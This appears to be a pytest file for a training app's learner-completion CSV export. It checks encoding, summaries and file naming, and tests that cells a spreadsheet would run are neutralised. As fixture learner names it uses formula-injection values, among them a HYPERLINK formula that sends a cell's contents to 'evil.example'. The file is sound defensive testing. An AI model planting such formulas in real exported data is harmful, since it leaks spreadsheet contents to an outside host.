"""The completion grid's CSV file, as a spreadsheet or pandas opens it, and its summary."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta
from pathlib import Path

import pytest

from tests.services.helpers import read_module, take_quiz
from trainer.cli import main
from trainer.services import accounts, grid_export, reports
from trainer.services.csv_safe import safe_cell
from trainer.services.learner_grid import course_parts, learner_grid

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your certificate")'
TODAY = date.today()


@pytest.fixture
def grid(store, catalog):
    """Learners whose names a spreadsheet would run, or that need more than Latin-1."""
    ana = accounts.create_learner(store, "Ana Ruiz", credential="LADC-10234", organisation="North")
    take_quiz(store, catalog, ana.id, "pretest")
    read_module(store, catalog, ana.id, "basics", seconds=1200)
    take_quiz(store, catalog, ana.id, "basics-quiz")
    take_quiz(store, catalog, ana.id, "posttest")
    accounts.create_learner(store, HYPERLINK, organisation="@SUM(A1:A9)")
    accounts.create_learner(store, "-Ana", credential="+44 20 7946 0000")
    accounts.create_learner(store, "محمد علي", organisation="عيادة الشمال")
    accounts.create_learner(store, "李小龙", organisation="北方诊所")
    return learner_grid(store, catalog)


def titles(catalog) -> list[str]:
    return [module.title for module in catalog.course.modules]


def test_safe_cell_quotes_text_a_spreadsheet_would_run_and_keeps_numbers() -> None:
    for text in ("=1+1", "+1", "-Ana", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text
    for value in (-5, 3.5, 0, None, "", "Ana", "LADC-1", "2025-01-02", "'quoted"):
        assert safe_cell(value) == value


def test_the_csv_starts_with_its_header_and_holds_only_learners(grid, catalog, tmp_path) -> None:
    target = tmp_path / "completion.csv"
    summary = grid_export.export_grid_csv(
        target, grid, titles(catalog), stamp="2025-03-04 14:30 UTC", who="Sam Lee",
        filters="All organisations, Any status", due=None, today=TODAY,
        course="Demo course (version 1.0.0)",
    )  # fmt: skip

    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfLearner,Credential,")  # UTF-8 with a byte-order mark
    header, *rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert header == grid_export.csv_headers(titles(catalog))
    assert len(rows) == len(grid) == 5  # one per learner: no totals, no notes
    data = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    ana = data["Ana Ruiz"]
    assert (ana["Course complete"], ana["1. Basics: status"], ana["1. Basics: best %"]) == (
        "Yes",
        "Complete",
        "100",
    )
    assert ana["Credential"] == "LADC-10234" and int(ana["Total time (minutes)"]) == 40
    assert data["李小龙"]["Organisation"] == "北方诊所"
    assert data["محمد علي"]["1. Basics: status"] == "Not started"
    assert data["محمد علي"]["Modules done"] == "0" and data["محمد علي"]["1. Basics: best %"] == ""
    # what a learner typed is never run by the spreadsheet; numbers stay numbers
    assert "'" + HYPERLINK in data and data["'" + HYPERLINK]["Organisation"] == "'@SUM(A1:A9)"
    assert data["'-Ana"]["Credential"] == "'+44 20 7946 0000"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert "\r\n" in raw.decode("utf-8-sig") and ",40," in raw.decode("utf-8-sig")

    assert summary == tmp_path / "completion.txt"
    text = summary.read_text(encoding="utf-8-sig")
    assert "Completion grid: completion.csv" in text
    assert "Course: Demo course (version 1.0.0)" in text
    assert "Exported 2025-03-04 14:30 UTC by Sam Lee" in text
    assert "Shown: All organisations, Any status" in text
    assert "Totals of the 5 learners in the file:" in text
    assert "  Course complete: 1" in text and "  Overdue" not in text
    assert "  Total time (minutes): 40" in text and "    1. Basics: 1" in text


def test_the_summary_counts_who_is_overdue(grid, catalog, tmp_path) -> None:
    summary = grid_export.export_grid_csv(
        tmp_path / "grid.csv", grid, titles(catalog), stamp="now", who="Sam", filters="",
        due=TODAY - timedelta(days=1), today=TODAY,
    )  # fmt: skip
    text = summary.read_text(encoding="utf-8-sig")
    assert f"Due date: {(TODAY - timedelta(days=1)).isoformat()}" in text
    assert "  Overdue: 4" in text and "Shown: every learner" in text
    rows = list(csv.DictReader((tmp_path / "grid.csv").open(encoding="utf-8-sig")))
    assert [row["Course complete"] for row in rows].count("Overdue") == 4


def test_a_suggested_name_says_who_exported_when() -> None:
    from datetime import datetime

    when = datetime(2025, 3, 4, 14, 30)
    assert grid_export.export_file_name("csv", "Sam O'Lee", when) == (
        "completion-2025-03-04-1430-sam-o-lee.csv"
    )
    assert grid_export.export_file_name("pdf", "محمد علي", when) == (
        "completion-2025-03-04-1430-محمد-علي.pdf"
    )
    assert grid_export.export_file_name("csv", "", when) == "completion-2025-03-04-1430.csv"
    assert grid_export.summary_path(Path("a/grid.csv")) == Path("a/grid.txt")
    assert grid_export.summary_path(Path("a/grid.txt")) == Path("a/grid.txt.summary.txt")


def test_trainer_report_csv_is_the_apps_csv(grid, db_url, catalog, demo_root, tmp_path, capsys):
    args = ["--db", db_url, "--course", str(demo_root / "curriculum")]
    args += ["--quizzes", str(demo_root / "quizzes")]
    app = io.StringIO()
    parts = course_parts(catalog.course)  # the demo course has no evaluation
    grid_export.write_grid_csv(app, grid, titles(catalog), due=None, today=TODAY, parts=parts)

    assert main([*args, "report"]) == 0
    out = capsys.readouterr().out
    assert out.replace("\n", "\r\n") == app.getvalue()
    header, *rows = list(csv.reader(io.StringIO(out)))
    assert header[:3] == ["Learner", "Credential", "Organisation"] and len(rows) == 5
    assert "Not started" in out and "not_attempted" not in out
    assert "'" + HYPERLINK in [row[0] for row in rows]

    target = tmp_path / "report.csv"
    assert main([*args, "report", "--out", str(target)]) == 0
    assert capsys.readouterr().out == f"wrote 5 learners to {target}\n"
    assert target.read_bytes() == b"\xef\xbb\xbf" + app.getvalue().encode("utf-8")

    assert main([*args, "report", "--format", "json"]) == 0
    entries = json.loads(capsys.readouterr().out)
    ana = next(e for e in entries if e["learner"] == "Ana Ruiz")
    assert (ana["completion"], ana["status_code"], ana["status"]) == (
        "completed",
        "complete",
        "Complete",
    )
    assert ana["total_active_seconds"] == 2400 and ana["best_percent"] == 100.0
    assert next(e for e in entries if e["learner"] == HYPERLINK)["status"] == "Not started"
    assert reports.report_csv(grid, catalog) == app.getvalue()


def test_a_total_adds_up_to_the_minutes_its_rows_show() -> None:
    from trainer.services.learner_grid import LearnerRow

    rows = [
        LearnerRow(f"id-{n}", f"Learner {n}", "", "", (), seconds, 0, "")
        for n, seconds in enumerate((90, 90, 119))
    ]  # each row shows 1 min; the seconds add up to 4 min 59 s
    assert grid_export.total_minutes(rows) == 3


def test_the_pre_test_and_post_test_columns_hold_the_grids_words(grid, catalog) -> None:
    parts = course_parts(catalog.course)
    assert parts == ("pretest", "posttest")  # the demo course has no evaluation
    handle = io.StringIO()
    grid_export.write_grid_csv(handle, grid, titles(catalog), due=None, today=TODAY, parts=parts)
    header, *rows = list(csv.reader(io.StringIO(handle.getvalue())))
    assert header == grid_export.csv_headers(titles(catalog), parts)
    assert header[7:10] == ["Pre-test: status", "Pre-test: baseline", "Pre-test: baseline %"]
    assert header[-4:] == [
        "Post-test: status", "Post-test: best score", "Post-test: best %", "Post-test: passed on",
    ]  # fmt: skip
    assert not any(h.startswith("Course evaluation") for h in header)
    ana = dict(zip(header, rows[[r[0] for r in rows].index("Ana Ruiz")], strict=True))
    ana_row = next(r for r in grid if r.name == "Ana Ruiz")
    assert ana["Pre-test: status"] == "Baseline taken"
    assert ana["Pre-test: baseline"] == ana_row.pretest.score_words
    assert ana["Pre-test: baseline"].startswith("Baseline: ") and ana["Pre-test: baseline %"]
    assert ana["Post-test: status"] == "Passed"
    assert ana["Post-test: best score"] == ana_row.posttest.score_words
    assert int(ana["Post-test: best %"]) == 100 and ana["Post-test: passed on"] == str(TODAY)
    for values in rows:  # the others: tests not taken, in words, with blank numbers
        data = dict(zip(header, values, strict=True))
        if data["Learner"] != "Ana Ruiz":
            assert [data["Pre-test: status"], data["Pre-test: baseline %"]] == ["Not taken", ""]
            assert [data["Post-test: status"], data["Post-test: passed on"]] == ["Not taken", ""]


def test_the_summary_counts_the_tests_and_evaluations(grid, catalog) -> None:
    text = grid_export.grid_summary(
        grid, titles(catalog), file_name="g.csv", stamp="now", who="Sam", filters="",
        due=None, today=TODAY, parts=course_parts(catalog.course),
    )  # fmt: skip
    assert "  Pre-test taken: 1\n" in text and "  Post-test passed: 1\n" in text
    assert "evaluation" not in text.lower()
